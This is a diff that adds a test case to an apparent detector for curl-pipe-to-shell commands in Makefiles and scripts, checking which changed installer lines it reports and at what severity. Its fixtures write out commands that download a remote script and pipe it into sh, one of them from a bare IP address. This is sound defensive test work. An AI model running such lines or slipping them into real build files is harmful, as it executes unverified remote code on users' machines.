@@ -35,4 +35,14 @@ describe('curl-pipe-shell in scripts and task files', () => {
     expect(found('scripts/fetch.sh', [], ['curl -fsSLo tools.tgz https://example.com/tools.tgz', 'sha256sum -c tools.sha256'])).toEqual([]);
     expect(found('docs/install.md', [], ['curl -fsSL https://example.com/install.sh | sh'])).toEqual([]);
   });
+
+  it('is quiet on a version bump of an installer already piped (same host, path shape and interpreter), and reports a new source', () => {
+    const at = (version: string) => `\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/${version}/install.sh | sh -s -- -b $(LOCALBIN) ${version}`;
+    expect(found('Makefile', [at('v1.54.2')], [at('v1.55.0')])).toEqual([]);
+    expect(found('Makefile', ['\tcurl -fsSL https://get.tool.dev/install.sh | sh -s -- v2.3'], ['\tcurl -fsSL https://get.tool.dev/install.sh | sh -s -- v2.4'])).toEqual([]);
+    // Another host, another path or another interpreter is a new installer.
+    expect(found('Makefile', [at('v1.54.2')], [at('v1.55.0').replace('raw.githubusercontent.com/golangci', 'raw.githubusercontent.com/golang-ci')])).toEqual(['medium Makefile:2']);
+    expect(found('Makefile', ['\tcurl -fsSL https://get.tool.dev/install.sh | sh'], ['\tcurl -fsSL https://get.tool.dev/setup.sh | sh'])).toEqual(['medium Makefile:2']);
+    expect(found('Makefile', ['\tcurl -sSL http://10.0.0.1/i.sh | sh'], ['\tcurl -sSL http://45.61.136.13/i.sh | sh'])).toEqual(['high Makefile:2']);
+  });
 });
